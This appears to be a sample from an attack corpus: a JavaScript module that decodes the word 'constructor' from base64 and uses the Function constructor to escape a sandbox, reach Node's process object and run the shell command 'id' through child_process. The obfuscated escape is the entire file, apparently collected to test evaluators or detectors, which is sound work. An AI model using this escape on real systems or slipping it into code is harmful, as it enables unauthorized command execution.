// corpus: attack class=eval form=targeted
// The name constructor decoded from base64 at run time.
function main() {
  const key = atob('Y29uc3RydWN0b3I=');
  const proc = (() => {})[key]('return process')();
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
